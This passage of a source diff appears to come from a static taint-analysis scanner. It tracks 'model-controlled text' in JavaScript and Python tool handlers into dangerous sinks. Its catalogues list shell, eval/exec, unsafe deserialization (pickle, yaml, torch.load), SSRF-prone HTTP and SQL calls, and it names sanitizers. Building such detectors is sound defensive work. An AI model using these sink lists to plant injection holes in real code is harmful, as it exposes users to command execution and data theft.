+          if (m === "startsWith" && args2[0]) {
+            const lit = jsLiteralString(args2[0]);
+            if (!truth && lit !== null && lit.startsWith("-")) this.guardExpr(obj, ["argument"], scope);
+            if (!truth && lit !== null && lit.startsWith("..")) {
+              const rel = obj.type === "call_expression" ? obj : null;
+              if (rel && /(^|\.)relative$/.test(jsCanonical(this.idx, field(rel, "function")) ?? "")) {
+                const target = named(field(rel, "arguments"))[1];
+                if (target) this.guardExpr(target, ["path"], scope);
+              } else if (obj.type === "identifier") {
+                const d = scope.derived.get(obj.text);
+                if (d && /relative\(/.test(d.via)) this.guardExpr({ type: "identifier", text: d.from }, ["path"], scope);
+              }
+            }
+            if (truth && this.isSepTerminated(args2[0], scope) && this.isResolved(obj, scope)) this.guardExpr(obj, ["path"], scope);
+            return scope;
+          }
+          if ((m === "includes" || m === "has" || m === "hasOwnProperty") && truth && args2[0] && this.mentions(args2[0], scope) && !this.mentions(obj, scope)) {
+            this.guardExpr(args2[0], /\b(host|hostname|origin)\b/.test(args2[0].text) ? ["ssrf"] : ALL_KINDS, scope);
+            return scope;
+          }
+          if (m === "test" && truth && obj.type === "regex" && args2[0]) {
+            const pattern = field(obj, "pattern")?.text ?? "";
+            if (regexIsAnchored(pattern) && regexIsRestrictive(pattern)) this.guardExpr(args2[0], regexAllowsLeadingDash(pattern) ? ALL_KINDS.filter((k) => k !== "argument") : ALL_KINDS, scope);
+            return scope;
+          }
+          if (m === "test" && truth && obj.type === "identifier" && args2[0]) {
+            const def = this.idx.assigns.get(obj.text);
+            if (def?.type === "regex") {
+              const pattern = field(def, "pattern")?.text ?? "";
+              if (regexIsAnchored(pattern) && regexIsRestrictive(pattern)) this.guardExpr(args2[0], regexAllowsLeadingDash(pattern) ? ALL_KINDS.filter((k) => k !== "argument") : ALL_KINDS, scope);
+            }
+            return scope;
+          }
+        }
+        if (truth) {
+          const name2 = f.type === "member_expression" ? field(f, "property").text : f.text;
+          if (VALIDATOR_NAME.test(name2)) {
+            for (const a of args2) if (this.mentions(a, scope)) this.guardExpr(a, ALL_KINDS, scope);
+          }
+        }
+        return scope;
+      }
+      default:
+        return scope;
+    }
+  }
+  mentions(node, scope) {
+    if ((node.type === "identifier" || node.type === "member_expression" || node.type === "subscript_expression") && scope.get(node.text)) return true;
+    return named(node).some((c) => this.mentions(c, scope));
+  }
+  isResolved(node, scope) {
+    if (scope.get(node.text)?.resolved) return true;
+    if (node.type === "call_expression") return JS.resolvers.has(jsCanonical(this.idx, field(node, "function")) ?? "") || JS.joins.has(jsCanonical(this.idx, field(node, "function")) ?? "");
+    return false;
+  }
+  isSepTerminated(node, scope, depth = 0) {
+    if (depth > 2) return false;
+    const lit = jsLiteralString(node);
+    if (lit !== null) return lit.endsWith("/") || lit.endsWith("\\");
+    if (node.type === "binary_expression" && field(node, "operator").text === "+") {
+      const r2 = field(node, "right");
+      return /(^|\.)sep$/.test(r2.text) || this.isSepTerminated(r2, scope, depth + 1);
+    }
+    if (node.type === "template_string") {
+      const last = named(node).pop();
+      if (last?.type === "string_fragment") return /[/\\]$/.test(last.text);
+      if (last?.type === "template_substitution") return /(^|\.)sep$/.test(named(last)[0]?.text ?? "");
+    }
+    if (node.type === "identifier") {
+      const def = this.idx.assigns.get(node.text);
+      if (def) return this.isSepTerminated(def, scope, depth + 1);
+      for (const d of this.fn.descendantsOfType("variable_declarator")) {
+        if (d && field(d, "name")?.text === node.text && field(d, "value")) return this.isSepTerminated(field(d, "value"), scope, depth + 1);
+      }
+    }
+    return false;
+  }
+  guardExpr(node, kinds, scope) {
+    const seen = /* @__PURE__ */ new Set();
+    const visit2 = (n) => {
+      if (n.type === "identifier" || n.type === "member_expression" || n.type === "subscript_expression") {
+        if (!seen.has(n.text)) {
+          seen.add(n.text);
+          const t = scope.get(n.text);
+          if (t) scope.set(n.text, markSafe(t, kinds));
+          else if (n.type !== "identifier") {
+            const base = field(n, "object");
+            const bt = scope.get(base.text);
+            if (bt) scope.set(n.text, markSafe(this.member(bt, n.type === "member_expression" ? field(n, "property").text : jsLiteralString(field(n, "index")) ?? bt.label), kinds));
+          }
+          const d = scope.derived.get(n.text);
+          if (d) {
+            const dt = scope.get(d.from);
+            if (dt && (kinds.includes("ssrf") || dt.resolved || kinds.length === ALL_KINDS.length)) scope.set(d.from, markSafe(dt, kinds));
+          }
+        }
+        if (n.type === "identifier") return;
+        const obj = field(n, "object");
+        if (obj.type === "call_expression" || obj.type === "new_expression" || obj.type === "parenthesized_expression" || obj.type === "await_expression") return visit2(obj);
+        if (obj.type === "identifier" && scope.derived.has(obj.text)) {
+          const d = scope.derived.get(obj.text);
+          const dt = scope.get(d.from);
+          if (dt) scope.set(d.from, markSafe(dt, kinds));
+        }
+        return;
+      }
+      if (n.type === "call_expression" || n.type === "new_expression") {
+        const f = field(n, "function");
+        if (f?.type === "member_expression") visit2(field(f, "object"));
+        for (const a of named(field(n, "arguments"))) visit2(a);
+        return;
+      }
+      for (const c of named(n)) visit2(c);
+    };
+    visit2(node);
+  }
+};
+async function analyseJsHandler(cx, pf, fn, vars) {
+  const idx = await jsIndex(cx.project, pf);
+  const w = new JsWalker(cx, pf, idx, fn, 0);
+  const s = await w.run(vars, []);
+  return s.flows;
+}
+
+// src/taint/python-catalogue.ts
+function pyLiteralString(node) {
+  if (!node) return null;
+  if (node.type === "string") {
+    const start2 = node.namedChildren.find((c) => c?.type === "string_start")?.text ?? "";
+    if (/f/i.test(start2)) {
+      if (node.namedChildren.some((c) => c?.type === "interpolation")) return null;
+    }
+    return node.namedChildren.filter((c) => c?.type === "string_content" || c?.type === "escape_sequence").map((c) => c.text).join("");
+  }
+  if (node.type === "concatenated_string") {
+    const parts2 = node.namedChildren.map((c) => pyLiteralString(c));
+    return parts2.some((p) => p === null) ? null : parts2.join("");
+  }
+  return null;
+}
+var PATH_FUNCS = /* @__PURE__ */ new Map([
+  ["open", [0]],
+  ["io.open", [0]],
+  ["codecs.open", [0]],
+  ["os.open", [0]],
+  ["aiofiles.open", [0]],
+  ["os.remove", [0]],
+  ["os.unlink", [0]],
+  ["os.rmdir", [0]],
+  ["os.removedirs", [0]],
+  ["os.makedirs", [0]],
+  ["os.mkdir", [0]],
+  ["os.listdir", [0]],
+  ["os.scandir", [0]],
+  ["os.walk", [0]],
+  ["os.rename", [0, 1]],
+  ["os.renames", [0, 1]],
+  ["os.replace", [0, 1]],
+  ["os.chmod", [0]],
+  ["os.chown", [0]],
+  ["os.truncate", [0]],
+  ["os.symlink", [0, 1]],
+  ["os.link", [0, 1]],
+  ["shutil.copy", [0, 1]],
+  ["shutil.copy2", [0, 1]],
+  ["shutil.copyfile", [0, 1]],
+  ["shutil.copytree", [0, 1]],
+  ["shutil.copyfileobj", []],
+  ["shutil.rmtree", [0]],
+  ["shutil.move", [0, 1]],
+  ["shutil.chown", [0]],
+  ["shutil.make_archive", [0, 2]],
+  ["shutil.unpack_archive", [0, 1]],
+  ["glob.glob", [0]],
+  ["glob.iglob", [0]],
+  ["tarfile.open", [0]],
+  ["zipfile.ZipFile", [0]],
+  ["git.Repo", [0]],
+  ["git.Repo.init", [0]],
+  ["git.repo.Repo", [0]],
+  ["git.repo.base.Repo", [0]],
+  ["git.Repo.clone_from", [1]],
+  ["flask.send_file", [0]],
+  ["send_file", [0]],
+  ["fastapi.responses.FileResponse", [0]],
+  ["starlette.responses.FileResponse", [0]],
+  ["pandas.read_csv", [0]],
+  ["pandas.read_json", [0]],
+  ["pandas.read_excel", [0]],
+  ["pandas.read_parquet", [0]]
+]);
+var PATH_KW = ["file", "path", "filename", "src", "dst", "name", "filepath", "path_or_buf", "filepath_or_buffer", "to_path"];
+var PATH_METHODS = /* @__PURE__ */ new Set(["read_text", "write_text", "read_bytes", "write_bytes", "open", "unlink", "rmdir", "mkdir", "touch", "iterdir", "glob", "rglob", "rename", "symlink_to", "chmod", "hardlink_to"]);
+var SHELL_FUNCS = /* @__PURE__ */ new Set([
+  "os.system",
+  "os.popen",
+  "subprocess.getoutput",
+  "subprocess.getstatusoutput",
+  "commands.getoutput",
+  "commands.getstatusoutput",
+  "asyncio.create_subprocess_shell",
+  "pexpect.run",
+  "pexpect.spawn",
+  "pexpect.popen_spawn.PopenSpawn",
+  "pty.spawn"
+]);
+var SUBPROCESS_FUNCS = /* @__PURE__ */ new Set(["subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"]);
+var EXEC_ARGV_FUNCS = /* @__PURE__ */ new Set(["asyncio.create_subprocess_exec", "os.execv", "os.execvp", "os.execvpe", "os.execve", "os.execl", "os.execlp", "os.spawnv", "os.spawnvp"]);
+var CODE_FUNCS2 = /* @__PURE__ */ new Set(["eval", "exec", "compile", "__import__", "builtins.eval", "builtins.exec", "builtins.compile", "importlib.import_module", "importlib.__import__", "runpy.run_path", "runpy.run_module", "execfile"]);
+var DESER_FUNCS2 = /* @__PURE__ */ new Set([
+  "pickle.loads",
+  "pickle.load",
+  "pickle.Unpickler",
+  "cPickle.loads",
+  "cPickle.load",
+  "_pickle.loads",
+  "_pickle.load",
+  "marshal.loads",
+  "marshal.load",
+  "dill.loads",
+  "dill.load",
+  "cloudpickle.loads",
+  "cloudpickle.load",
+  "joblib.load",
+  "jsonpickle.decode",
+  "jsonpickle.loads",
+  "yaml.unsafe_load",
+  "yaml.unsafe_load_all",
+  "yaml.full_load",
+  "yaml.full_load_all",
+  "shelve.open",
+  "pandas.read_pickle"
+]);
+var SAFE_YAML_LOADERS = /(^|\.)(SafeLoader|CSafeLoader|BaseLoader|CBaseLoader)$/;
+var HTTP_FUNCS2 = /* @__PURE__ */ new Map([
+  ["requests.get", 0],
+  ["requests.post", 0],
+  ["requests.put", 0],
+  ["requests.patch", 0],
+  ["requests.delete", 0],
+  ["requests.head", 0],
+  ["requests.options", 0],
+  ["requests.request", 1],
+  ["requests.api.get", 0],
+  ["requests.api.request", 1],
+  ["httpx.get", 0],
+  ["httpx.post", 0],
+  ["httpx.put", 0],
+  ["httpx.patch", 0],
+  ["httpx.delete", 0],
+  ["httpx.head", 0],
+  ["httpx.options", 0],
+  ["httpx.request", 1],
+  ["httpx.stream", 1],
+  ["urllib.request.urlopen", 0],
+  ["urllib.request.Request", 0],
+  ["urllib.request.urlretrieve", 0],
+  ["urllib2.urlopen", 0],
+  ["urllib.urlopen", 0],
+  ["aiohttp.request", 1],
+  ["webbrowser.open", 0]
+]);
+var HTTP_CLIENT_METHODS = /* @__PURE__ */ new Map([
+  ["get", 0],
+  ["post", 0],
+  ["put", 0],
+  ["patch", 0],
+  ["delete", 0],
+  ["head", 0],
+  ["options", 0],
+  ["request", 1],
+  ["stream", 1],
+  ["ws_connect", 0],
+  ["urlopen", 1]
+]);
+var HTTP_CLIENT_CTORS = /* @__PURE__ */ new Set([
+  "requests.Session",
+  "requests.session",
+  "httpx.Client",
+  "httpx.AsyncClient",
+  "aiohttp.ClientSession",
+  "urllib3.PoolManager",
+  "urllib3.PoolManager()"
+]);
+var HTTP_CLIENT_NAMES = /^(session|http_session|http_client|httpx_client|async_client|http|self\.session|self\.http_session|self\.http_client|self\._session|self\._client|self\.client)$/;
+var SQL_METHODS2 = /* @__PURE__ */ new Set(["execute", "executemany", "executescript", "exec_driver_sql", "mogrify", "fetch", "fetchrow", "fetchval", "raw"]);
+var SQL_FUNCS = /* @__PURE__ */ new Set(["sqlalchemy.text", "sqlalchemy.sql.text", "sqlalchemy.sql.expression.text", "pandas.read_sql", "pandas.read_sql_query", "sqlmodel.text"]);
+function arg(q, index, ...kw) {
+  if (index >= 0 && q.positional[index]) return q.positional[index];
+  for (const k of kw) if (q.keywords.has(k)) return q.keywords.get(k);
+  return void 0;
+}
+function isTrue(node) {
+  return !!node && node.type !== "false" && node.type !== "none" && node.text !== "0";
+}
+function sinks2(q) {
+  const out2 = [];
+  const c = q.canon ?? "";
+  const hit = (kind, sink, a) => {
+    if (a?.t) out2.push({ kind, sink, taint: a.t, arg: a.node });
+  };
+  const pathArgs = PATH_FUNCS.get(c) ?? PATH_FUNCS.get(c.replace(/^pathlib\./, ""));
+  if (pathArgs) {
+    for (const i2 of pathArgs) hit("path", `${c}()`, q.positional[i2]);
+    if (!pathArgs.some((i2) => q.positional[i2])) for (const k of PATH_KW) hit("path", `${c}()`, q.keywords.get(k));
+  }
+  if (q.method && PATH_METHODS.has(q.method) && q.receiver && q.receiver.container === void 0 && (q.method !== "write" || false)) {
+    if (q.receiver.argv === void 0) out2.push({ kind: "path", sink: `Path.${q.method}()`, taint: q.receiver, arg: q.receiverNode ?? void 0 });
+  }
+  if (/(^|\.)send_from_directory$/.test(c)) {
+  }
+  if (SHELL_FUNCS.has(c)) hit("command", `${c}()`, arg(q, 0, "cmd", "command", "args"));
+  if (SUBPROCESS_FUNCS.has(c)) {
+    const cmd = arg(q, 0, "args");
+    const shell = q.keywords.get("shell");
+    if (cmd?.t) {
+      if (shell && isTrue(shell.node)) out2.push({ kind: "command", sink: `${c}(shell=True)`, taint: cmd.t, arg: cmd.node });
+      else if (!cmd.t.argv) out2.push({ kind: "command", sink: `${c}() with a command string`, taint: cmd.t, arg: cmd.node });
+      else if (cmd.t.argv.first) out2.push({ kind: "command", sink: `${c}() program name`, taint: cmd.t, arg: cmd.node });
+      else if (!cmd.t.argv.afterDashDash && !cmd.t.prefixFixed) out2.push({ kind: "argument", sink: `${c}() argv`, taint: cmd.t, arg: cmd.node });
+    }
+  }
+  if (EXEC_ARGV_FUNCS.has(c)) {
+    const first = q.positional[0];
+    if (first?.t) out2.push({ kind: "command", sink: `${c}() program name`, taint: first.t, arg: first.node });
+    const rest = q.positional.slice(1);
+    const ddIdx = rest.findIndex((a) => pyLiteralString(a.node) === "--");
+    rest.forEach((a, i2) => {
+      if (a.t && (ddIdx < 0 || i2 < ddIdx) && !a.t.prefixFixed && !a.t.argv?.afterDashDash) out2.push({ kind: "argument", sink: `${c}() argv`, taint: a.t, arg: a.node });
+    });
+  }
+  if (q.method && q.receiverNode?.type === "attribute" && q.receiverNode.childForFieldName("attribute")?.text === "git" && q.method !== "execute") {
+    const ddIdx = q.positional.findIndex((a) => pyLiteralString(a.node) === "--");
+    q.positional.forEach((a, i2) => {
+      if (a.t && (ddIdx < 0 || i2 < ddIdx) && !a.t.prefixFixed) out2.push({ kind: "argument", sink: `git ${q.method.replace(/_/g, "-")} (GitPython)`, taint: a.t, arg: a.node });
+    });
+  }
+  if (CODE_FUNCS2.has(c)) hit("code", `${c}()`, arg(q, 0, "source", "name", "expression"));
+  if (q.method && SQL_METHODS2.has(q.method) && q.receiverNode) {
+    const a = arg(q, 0, "query", "sql", "statement", "operation");
+    if (a?.t?.sqlBuilt) out2.push({ kind: "sql", sink: `${q.receiverNode.text.split(".").pop()}.${q.method}()`, taint: a.t, arg: a.node });
+  }
+  if (SQL_FUNCS.has(c) || q.canon && /(^|\.)text$/.test(c) && q.idx.imports.get("text")?.startsWith("sqlalchemy")) {
+    const a = arg(q, 0, "sql", "text");
+    if (a?.t?.sqlBuilt) out2.push({ kind: "sql", sink: `${c}()`, taint: a.t, arg: a.node });
+  }
+  const httpIdx = HTTP_FUNCS2.get(c);
+  if (httpIdx !== void 0) {
+    const a = arg(q, httpIdx, "url");
+    if (a?.t && !a.t.hostFixed) out2.push({ kind: "ssrf", sink: `${c}()`, taint: a.t, arg: a.node });
+  }
+  if (q.method && q.receiverNode && HTTP_CLIENT_METHODS.has(q.method)) {
+    const recv = q.receiverNode.text;
+    const isClient = q.scope.httpClients.has(recv) || HTTP_CLIENT_NAMES.test(recv) || q.receiverNode.type === "call" && HTTP_CLIENT_CTORS.has(q.canon?.replace(/\(\)\.[a-z_]+$/, "") ?? "");
+    if (isClient) {
+      const a = arg(q, HTTP_CLIENT_METHODS.get(q.method), "url");
+      if (a?.t && !a.t.hostFixed && a.t.container === void 0) out2.push({ kind: "ssrf", sink: `${recv}.${q.method}()`, taint: a.t, arg: a.node });
+    }
+  }
+  if (DESER_FUNCS2.has(c)) hit("deserialization", `${c}()`, arg(q, 0, "data", "stream", "file", "s", "filename", "value", "string"));
+  if (c === "yaml.load" || c === "yaml.load_all") {
+    const loader = q.positional[1]?.node ?? q.keywords.get("Loader")?.node;
+    if (!loader || !SAFE_YAML_LOADERS.test(loader.text)) hit("deserialization", loader ? `${c}(Loader=${loader.text})` : `${c}() without SafeLoader`, arg(q, 0, "stream"));
+  }
+  if (c === "torch.load") {
+    const wo = q.keywords.get("weights_only");
+    if (!wo || wo.node.text !== "True") hit("deserialization", "torch.load() without weights_only=True", arg(q, 0, "f"));
+  }
+  return out2;
+}
+var PY = {
+  sinks: sinks2,
+  httpClientCtors: HTTP_CLIENT_CTORS,
+  /** Calls whose result is not model-controlled text any more ('all'), or safe for some kinds. */
+  sanitizers: /* @__PURE__ */ new Map([
+    ["int", "all"],
+    ["float", "all"],
+    ["bool", "all"],
+    ["len", "all"],
+    ["hash", "all"],
+    ["isinstance", "all"],
+    ["id", "all"],
+    ["abs", "all"],
+    ["round", "all"],
+    ["uuid.UUID", "all"],
+    ["ast.literal_eval", "all"],
+    ["hashlib.sha256", "all"],
+    ["hashlib.md5", "all"],
+    ["hashlib.sha1", "all"],
+    ["shlex.quote", ["command"]],
+    ["pipes.quote", ["command"]],
+    ["os.path.basename", ["path", "argument"]],
+    ["werkzeug.utils.secure_filename", ["path", "argument", "command"]],
+    ["secure_filename", ["path", "argument", "command"]],
+    ["re.escape", ["code"]],
+    ["os.path.exists", "all"],
+    ["os.path.isfile", "all"],
+    ["os.path.isdir", "all"],
+    ["os.path.getsize", "all"],
+    ["datetime.datetime.fromisoformat", "all"]
+  ]),
+  sanitizerMethods: /* @__PURE__ */ new Map([
+    ["isdigit", "all"],
+    ["isalnum", "all"],
+    ["exists", "all"],
+    ["is_file", "all"],
+    ["is_dir", "all"],
+    ["hexdigest", "all"],
+    ["count", "all"],
+    ["find", "all"],
+    ["index", "all"]
+  ]),
+  booleanMethods: /* @__PURE__ */ new Set(["startswith", "endswith", "isidentifier", "isalpha", "isnumeric", "isdecimal", "is_relative_to", "is_absolute", "__contains__"]),
+  resolvers: /* @__PURE__ */ new Set(["os.path.realpath", "os.path.abspath", "os.path.normpath", "posixpath.realpath", "posixpath.normpath"]),
+  pathJoins: /* @__PURE__ */ new Set(["os.path.join", "posixpath.join", "urllib.parse.urljoin", "pathlib.Path", "pathlib.PurePath"])
+};
+
+// src/taint/python.ts
+function named2(node) {
+  return node ? node.namedChildren.filter(Boolean) : [];
+}
+function field2(node, name2) {
+  return node ? node.childForFieldName(name2) : null;
+}
+async function resolvePyModule2(project, fromPath, level, dotted) {
+  const parts2 = dotted ? dotted.split(".") : [];
+  const all = await project.memo("taint:allpaths-set", async () => new Set(await project.allPaths()));
+  const candidates = [];
+  if (level > 0) {
+    const dir = fromPath.split("/").slice(0, -1);
+    for (let i2 = 1; i2 < level; i2++) dir.pop();
+    const base = [...dir, ...parts2].join("/");
+    candidates.push(`${base}.py`, `${base}/__init__.py`);
+    for (const c of candidates) if (all.has(c.replace(/^\//, ""))) return c.replace(/^\//, "");
+    return null;
+  }
+  if (!parts2.length) return null;
+  const tail = parts2.join("/");
+  const matches2 = [...all].filter((p) => p === `${tail}.py` || p.endsWith(`/${tail}.py`) || p === `${tail}/__init__.py` || p.endsWith(`/${tail}/__init__.py`));
+  if (!matches2.length) return null;
+  matches2.sort((a, b) => a.length - b.length);
+  return matches2[0];
+}
+function pyIndex(project, pf) {
+  return project.memo(`taint:pyindex:${pf.file.path}`, async () => {
+    const idx = { imports: /* @__PURE__ */ new Map(), localImports: /* @__PURE__ */ new Map(), functions: /* @__PURE__ */ new Map(), classes: /* @__PURE__ */ new Map(), assigns: /* @__PURE__ */ new Map() };
+    const root = pf.parsed.root;
+    for (const st of root.descendantsOfType(["import_statement", "import_from_statement"])) {
+      if (!st) continue;
+      if (st.type === "import_statement") {
+        for (const n of st.childrenForFieldName("name")) {
+          if (!n) continue;
+          if (n.type === "aliased_import") {
+            const full = field2(n, "name").text;
+            const alias = field2(n, "alias").text;
+            idx.imports.set(alias, full);
+            const local = await resolvePyModule2(project, pf.file.path, 0, full);
+            if (local) idx.localImports.set(alias, { path: local });
+          } else {
+            idx.imports.set(n.text.split(".")[0], n.text.split(".")[0]);
+            const local = await resolvePyModule2(project, pf.file.path, 0, n.text);
+            if (local && !n.text.includes(".")) idx.localImports.set(n.text, { path: local });
+          }
+        }
+      } else {
+        const mod = field2(st, "module_name");
+        if (!mod) continue;
+        let level = 0;
+        let dotted = mod.text;
+        if (mod.type === "relative_import") {
+          const prefix = named2(mod).find((c) => c.type === "import_prefix");
+          level = prefix ? prefix.text.length : 0;
+          dotted = named2(mod).find((c) => c.type === "dotted_name")?.text ?? "";
+        }
+        for (const n of st.childrenForFieldName("name")) {
+          if (!n) continue;
+          const name2 = n.type === "aliased_import" ? field2(n, "name").text : n.text;
+          const alias = n.type === "aliased_import" ? field2(n, "alias").text : n.text;
+          if (level === 0) idx.imports.set(alias, `${dotted}.${name2}`);
+          const modPath = await resolvePyModule2(project, pf.file.path, level, dotted);
+          const sub = await resolvePyModule2(project, pf.file.path, level, dotted ? `${dotted}.${name2}` : name2);
+          if (sub && (!modPath || modPath.endsWith("__init__.py"))) idx.localImports.set(alias, { path: sub });
+          else if (modPath) idx.localImports.set(alias, { path: modPath, name: name2 });
+        }
+      }
+    }
+    for (const child of named2(root)) {
+      const def = child.type === "decorated_definition" ? field2(child, "definition") : child;
+      if (!def) continue;
+      if (def.type === "function_definition") idx.functions.set(field2(def, "name").text, def);
+      else if (def.type === "class_definition") idx.classes.set(field2(def, "name").text, def);
+      else if (child.type === "expression_statement") {
+        const a = named2(child)[0];
+        if (a?.type === "assignment" && field2(a, "left")?.type === "identifier" && field2(a, "right")) idx.assigns.set(field2(a, "left").text, field2(a, "right"));
+      }
+    }
+    return idx;
+  });
+}
+function pyCanonical(idx, node) {
+  if (node.type === "identifier") return idx.imports.get(node.text) ?? node.text;
+  if (node.type === "attribute") {
+    const obj = field2(node, "object");
+    const base = pyCanonical(idx, obj);
+    return base ? `${base}.${field2(node, "attribute").text}` : null;
+  }
+  if (node.type === "call") {
+    const base = pyCanonical(idx, field2(node, "function"));
+    return base ? `${base}()` : null;
+  }
+  return null;
+}
+function pyParams(fn) {
+  const params = field2(fn, "parameters");
+  const out2 = [];
+  for (const p of named2(params)) {
+    if (p.type === "identifier") out2.push(p.text);
+    else if (p.type === "typed_parameter") out2.push(named2(p)[0]?.text ?? "");
+    else if (p.type === "default_parameter" || p.type === "typed_default_parameter") out2.push(field2(p, "name")?.text ?? "");
+    else if (p.type === "list_splat_pattern" || p.type === "dictionary_splat_pattern") out2.push(named2(p)[0]?.text ?? "");
+  }
+  return out2;
+}
+var VALIDATOR_NAME2 = /(allow|permit|whitelist|trusted|within|inside|contain|safe|valid|is_relative|authori[sz]ed)/i;
+var SQL_TEXT2 = /\b(select|insert|update|delete|create|drop|alter|where|from|pragma|values|order\s+by|limit)\b/i;
+var URL_WITH_HOST2 = /^[a-z][a-z0-9+.-]*:\/\/[^/?#{}]+[/?#]/i;
+var PyWalker = class _PyWalker {
+  constructor(cx, pf, idx, fn, depth) {
+    this.cx = cx;
+    this.pf = pf;
+    this.idx = idx;
+    this.fn = fn;
+    this.depth = depth;
+  }
+  cx;
+  pf;
+  idx;
+  fn;
+  depth;
+  flows = [];
+  returns = [];
+  exits = [];
+  local = /* @__PURE__ */ new Map();
+  step(node, message) {
+    return stepAt(this.pf, node, message);
+  }
+  async run(vars) {
+    const scope = new Scope();
+    for (const [k, v] of vars) scope.set(k, v);
+    const params = pyParams(this.fn);
+    const body2 = field2(this.fn, "body");
+    const r2 = body2.type === "block" ? await this.block(body2, scope) : { scope, terminated: false };
+    if (!r2.terminated) this.exits.push(r2.scope);
+    if (body2.type !== "block") {
+      const t = await this.eval(body2, scope);
+      if (t) this.returns.push(t);
+    }
+    const ret = combine(this.returns);
+    const paramSafe = params.map((p) => {
+      const before = vars.get(p);
+      if (!before || !this.exits.length) return null;
+      const kinds = ALL_KINDS.filter((k) => !before.safe.has(k) && this.exits.every((s) => s.get(p)?.safe.has(k)));
+      return kinds.length ? new Set(kinds) : null;
+    });
+    return { flows: this.flows, ret, paramSafe };
+  }
+  // ---------------------------------------------------------------- statements
+  async block(block, scope) {
+    let cur = scope;
+    for (const st of named2(block)) {
+      const r2 = await this.stmt(st, cur);
+      cur = r2.scope;
+      if (r2.terminated) return { scope: cur, terminated: true };
+    }
+    return { scope: cur, terminated: false };
+  }
+  async stmt(st, scope) {
+    switch (st.type) {
+      case "expression_statement": {
+        for (const e of named2(st)) await this.eval(e, scope);
+        return { scope, terminated: false };
+      }
+      case "return_statement": {
+        const e = named2(st)[0];
+        if (e) {
+          const t = await this.eval(e, scope);
+          if (t) this.returns.push(withStep(t, this.step(st, `returned: ${snippet2(e)}`)));
+        }
+        this.exits.push(scope);
+        return { scope, terminated: true };
+      }
+      case "raise_statement":
+        return { scope, terminated: true };
+      case "continue_statement":
+      case "break_statement":
+        return { scope, terminated: true };
+      case "assert_statement": {
+        const c = named2(st)[0];
+        if (c) {
+          await this.eval(c, scope);
+          this.refine(c, true, scope);
+        }
+        return { scope, terminated: false };
+      }
+      case "if_statement":
+        return this.ifChain(field2(st, "condition"), field2(st, "consequence"), st.childrenForFieldName("alternative").filter(Boolean), scope);
+      case "for_statement": {
+        const it = await this.eval(field2(st, "right"), scope);
+        const body2 = scope.copy();
+        this.bind(field2(st, "left"), it ? { ...it, argv: void 0 } : null, body2, null);
+        const r2 = await this.block(field2(st, "body"), body2);
+        return { scope: Scope.merge([scope, r2.scope]), terminated: false };
+      }
+      case "while_statement": {
+        const c = field2(st, "condition");
+        await this.eval(c, scope);
+        const body2 = this.refine(c, true, scope.copy());
+        const r2 = await this.block(field2(st, "body"), body2);
+        return { scope: Scope.merge([scope, r2.scope]), terminated: false };
+      }
+      case "try_statement": {
+        const before = scope.copy();
+        const body2 = await this.block(field2(st, "body"), scope);
+        const outs = [body2];
+        for (const c of named2(st)) {
+          if (c.type === "except_clause" || c.type === "except_group_clause") {
+            const blk = named2(c).find((n) => n.type === "block");
+            if (blk) outs.push(await this.block(blk, Scope.merge([before.copy(), body2.scope.copy()])));
+          } else if (c.type === "else_clause" && !body2.terminated) {
+            outs[0] = await this.block(field2(c, "body"), body2.scope);
+          }
+        }
+        const live = outs.filter((o) => !o.terminated).map((o) => o.scope);
+        let merged = live.length ? { scope: Scope.merge(live), terminated: false } : { scope: body2.scope, terminated: true };
+        const fin = named2(st).find((n) => n.type === "finally_clause");
+        if (fin) {
+          const blk = named2(fin).find((n) => n.type === "block");
+          if (blk) {
+            const r2 = await this.block(blk, merged.scope);
+            merged = { scope: r2.scope, terminated: merged.terminated || r2.terminated };
+          }
+        }
+        return merged;
+      }
+      case "with_statement": {
+        const clause = named2(st).find((n) => n.type === "with_clause");
+        for (const item of named2(clause)) {
+          const v = field2(item, "value");
+          if (!v) continue;
+          if (v.type === "as_pattern") {
+            const value = named2(v)[0];
+            const t = await this.eval(value, scope);
+            const alias = field2(v, "alias");
+            const target = alias ? named2(alias)[0] ?? alias : null;
+            if (target) {
+              this.bind(target, t, scope, value);
+              if (target.type === "identifier" && this.isHttpClientCtor(value)) scope.httpClients.add(target.text);
+            }
+          } else await this.eval(v, scope);
+        }
+        return this.block(field2(st, "body"), scope);
+      }
+      case "match_statement": {
+        await this.eval(field2(st, "subject") ?? named2(st)[0], scope);
+        const outs = [scope];
+        const body2 = named2(st).find((n) => n.type === "block");
+        for (const c of named2(body2)) {
+          if (c.type !== "case_clause") continue;
+          const blk = field2(c, "consequence") ?? named2(c).find((n) => n.type === "block");
+          if (!blk) continue;
+          const r2 = await this.block(blk, scope.copy());
+          if (!r2.terminated) outs.push(r2.scope);
+        }
+        return { scope: Scope.merge(outs), terminated: false };
+      }
+      case "function_definition":
+        this.local.set(field2(st, "name").text, st);
+        return { scope, terminated: false };
+      case "decorated_definition": {
+        const d = field2(st, "definition");
+        if (d?.type === "function_definition") this.local.set(field2(d, "name").text, d);
+        return { scope, terminated: false };
+      }
+      case "block":
+        return this.block(st, scope);
+      default:
+        return { scope, terminated: false };
+    }
+  }
+  async ifChain(cond, cons, alts, scope) {
+    await this.eval(cond, scope);
+    const t = await this.block(cons, this.refine(cond, true, scope.copy()));
+    const falseScope = this.refine(cond, false, scope.copy());
+    let f;
+    const [alt, ...rest] = alts;
+    if (!alt) f = { scope: falseScope, terminated: false };
+    else if (alt.type === "elif_clause") f = await this.ifChain(field2(alt, "condition"), field2(alt, "consequence"), rest, falseScope);
+    else f = await this.block(field2(alt, "body") ?? named2(alt).find((n) => n.type === "block"), falseScope);
+    const live = [t, f].filter((r2) => !r2.terminated).map((r2) => r2.scope);
+    if (!live.length) return { scope, terminated: true };
+    return { scope: Scope.merge(live), terminated: false };
+  }
+  /** Bind a value to an assignment target. */
+  bind(target, t, scope, value) {
+    if (target.type === "identifier" || target.type === "attribute" || target.type === "subscript") {
+      const name2 = target.text;
+      if (target.type === "subscript") {
+        const base = field2(target, "value");
+        if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet2(value ?? target)}`)));
+        return;
+      }
+      scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet2(value ?? target)}`)) : null);
+      if (value) {
+        if (value.type === "list" && named2(value).some((e) => pyLiteralString(e) === "--")) scope.dashDash.add(name2);
+        else scope.dashDash.delete(name2);
+        if (this.isHttpClientCtor(value)) scope.httpClients.add(name2);
+        if (["comparison_operator", "not_operator", "boolean_operator"].includes(value.type) || value.type === "call" && this.isPredicateCall(value)) scope.predicates.set(name2, value);
+        else scope.predicates.delete(name2);
